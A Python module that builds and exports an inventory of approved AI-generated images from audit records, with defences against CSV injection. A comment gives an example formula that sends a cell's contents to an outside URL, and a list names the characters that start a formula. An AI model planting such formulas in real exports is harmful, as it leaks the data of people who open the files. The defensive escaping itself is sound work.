"""The inventory of approved synthetic images, from audit records (pure: no Kafka here).

The latest decision per asset (by the input asset's sha256) as of `until` counts: an image approved and
later quarantined (a reviewer, a replay, a rescan) is not in the inventory. It is listed when that latest
decision approved it, it was declared synthetic, and it was decided at or after `since`.
"""

from __future__ import annotations

import csv
import io
import json
import re
from collections import Counter
from collections.abc import Iterable, Mapping
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from typing import Any

from gate.errors import ConfigError

CSV_COLUMNS = (
    "asset_sha256",
    "event_id",
    "source",
    "published_sha256",
    "published_uri",
    "model_provider",
    "model_name",
    "model_version",
    "training_data_sources",
    "manifest_label",
    "signer",
    "ai_marked",
    "policy_version",
    "decided_at",
)

_DATE_ONLY = re.compile(r"\d{4}-\d{2}-\d{2}")
_AGE = re.compile(r"(\d{1,6})\s*([smhdw])")
MAX_AGE = timedelta(days=36525)  # a century: '999999w' reached before the year 1 (an OverflowError)
_AGE_UNITS = {"s": "seconds", "m": "minutes", "h": "hours", "d": "days", "w": "weeks"}


def age(text: str) -> timedelta | None:
    """An age such as `30m`, `2h`, `7d` or `2w`, up to MAX_AGE (None when `text` is not one): how far back
    a period starts, in the same words every reading command takes."""
    found = _AGE.fullmatch(text.strip().lower())
    if found is None:
        return None
    back = timedelta(**{_AGE_UNITS[found.group(2)]: int(found.group(1))})
    return back if back <= MAX_AGE else None


@dataclass(frozen=True, slots=True)
class Period:
    """A closed time window [since, until]; None: unbounded on that side."""

    since: datetime | None = None
    until: datetime | None = None

    def contains(self, when: datetime) -> bool:
        """Whether `when` is inside the window."""
        return (self.since is None or when >= self.since) and (self.until is None or when <= self.until)


def parse_time(text: str, *, option: str, end_of_day: bool = False, now: datetime | None = None) -> datetime:
    """An RFC 3339 time, a date (`2026-12-01`, midnight UTC) or an age before `now` (`7d`, `2h`, as
    `gate quarantine ls --since` takes); a naive time is read as UTC.

    With `end_of_day` (an inclusive upper bound such as `--until`), a date means the end of that day, so
    `--until 2026-12-31` covers the 31st: at its midnight it would leave out the whole last day.
    """
    back = age(text)
    if back is not None:
        return (now or datetime.now(UTC)) - back
    try:
        when = datetime.fromisoformat(text.replace("Z", "+00:00"))
    except ValueError:
        raise ConfigError(
            f"{option} {text!r} is not a date, an RFC 3339 time or an age; "
            "write e.g. 2026-12-01, 2026-12-01T08:00:00Z or an age up to 100 years such as 7d"
        ) from None
    when = when if when.tzinfo else when.replace(tzinfo=UTC)
    if end_of_day and _DATE_ONLY.fullmatch(text.strip()):
        when = when + timedelta(days=1) - timedelta(microseconds=1)
    return when


def decided_at(record: Mapping[str, Any]) -> datetime:
    """When an audit record's decision was made."""
    return datetime.fromisoformat(str(record["decided_at"]).replace("Z", "+00:00"))


def latest_per_asset(
    records: Iterable[Mapping[str, Any]], until: datetime | None
) -> dict[str, Mapping[str, Any]]:
    """The latest decision (by `decided_at`, then by order read) per asset sha256, up to `until`."""
    latest: dict[str, Mapping[str, Any]] = {}
    for record in records:
        sha256 = (record.get("asset") or {}).get("sha256")
        if not sha256:
            continue  # no asset was read (invalid event, fetch failure): nothing was published
        when = decided_at(record)
        if until is not None and when > until:
            continue
        earlier = latest.get(sha256)
        if earlier is None or when >= decided_at(earlier):
            latest[sha256] = record
    return latest


def inventory(records: Iterable[Mapping[str, Any]], period: Period) -> list[dict[str, Any]]:
    """One row per approved synthetic image (its latest decision), oldest first."""
    rows = []
    for sha256, record in latest_per_asset(records, period.until).items():
        if record.get("verdict") != "approved" or record.get("synthetic") is not True:
            continue
        if not period.contains(decided_at(record)):
            continue
        model = record.get("model") or {}
        manifest = record.get("manifest") or {}
        asset = record.get("asset") or {}
        rows.append(
            {
                "asset_sha256": sha256,
                "event_id": record["event_id"],
                "source": record.get("source"),
                "published": {"sha256": asset.get("published_sha256"), "uri": asset.get("published_uri")},
                "model": {
                    "provider": model.get("provider"),
                    "name": model.get("name"),
                    "version": model.get("version"),
                },
                "training_data_sources": list(record.get("training_data_sources", ())),
                "manifest": {"label": manifest.get("label"), "signer": manifest.get("signer")},
                "ai_marked": ai_marked(record),
                "policy": dict(record.get("policy") or {}),
                "decided_at": record["decided_at"],
            }
        )
    rows.sort(key=lambda row: (row["decided_at"], row["asset_sha256"]))
    return rows


def ai_marked(record: Mapping[str, Any]) -> bool:
    """Whether the published image carries an AI marking: a trusted one it came with, or the gate's own."""
    manifest = record.get("manifest") or {}
    if "manifest.attached" in record.get("actions", ()) or "manifest.renewed" in record.get("actions", ()):
        return True
    return manifest.get("state") == "trusted" and manifest.get("ai_generated") is True


def totals(rows: Iterable[Mapping[str, Any]]) -> Counter[tuple[str, str, str, str]]:
    """Images per (provider, name, version, month of decision)."""
    counted: Counter[tuple[str, str, str, str]] = Counter()
    for row in rows:
        model = row["model"]
        month = str(row["decided_at"])[:7]
        counted[(model["provider"] or "-", model["name"] or "-", model["version"] or "-", month)] += 1
    return counted


def as_json_lines(rows: Iterable[Mapping[str, Any]]) -> str:
    """One JSON object per line."""
    return "".join(json.dumps(row, sort_keys=True, ensure_ascii=False) + "\n" for row in rows)


def as_csv(rows: Iterable[Mapping[str, Any]]) -> str:
    """A CSV with a header row (`CSV_COLUMNS`); lists are joined with `;`; a cell a spreadsheet would
    evaluate is written as text (`spreadsheet_text`)."""
    out = io.StringIO()
    # RFC 4180's CRLF: the writer quotes a field holding a character of its line terminator, so with "\n"
    # alone a bare "\r" in a model name went out unquoted and every spreadsheet read a forged row there.
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow(CSV_COLUMNS)
    for row in rows:
        writer.writerow(
            map(
                spreadsheet_text,
                [
                    row["asset_sha256"],
                    row["event_id"],
                    row["source"],
                    row["published"]["sha256"] or "",
                    row["published"]["uri"] or "",
                    row["model"]["provider"] or "",
                    row["model"]["name"] or "",
                    row["model"]["version"] or "",
                    ";".join(row["training_data_sources"]),
                    row["manifest"]["label"] or "",
                    row["manifest"]["signer"] or "",
                    "yes" if row["ai_marked"] else "no",
                    row["policy"].get("version", ""),
                    row["decided_at"],
                ],
            )
        )
    return out.getvalue()


# A cell starting with one of these is a formula to Excel, LibreOffice and Google Sheets (OWASP "CSV
# injection"): '=HYPERLINK("https://…?"&A2, "model")' as a declared model name would run when the auditor
# opens the inventory. The model, its provider and version and the training-data sources are the producer's
# free text, and an approved-model list is optional.
_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_text(cell: object) -> str:
    """`cell` as a CSV cell no spreadsheet evaluates: one that would start a formula gets a leading `'`
    (OWASP's advice; the cell then reads as text)."""
    text = str(cell)
    return "'" + text if text.startswith(_FORMULA_STARTS) else text
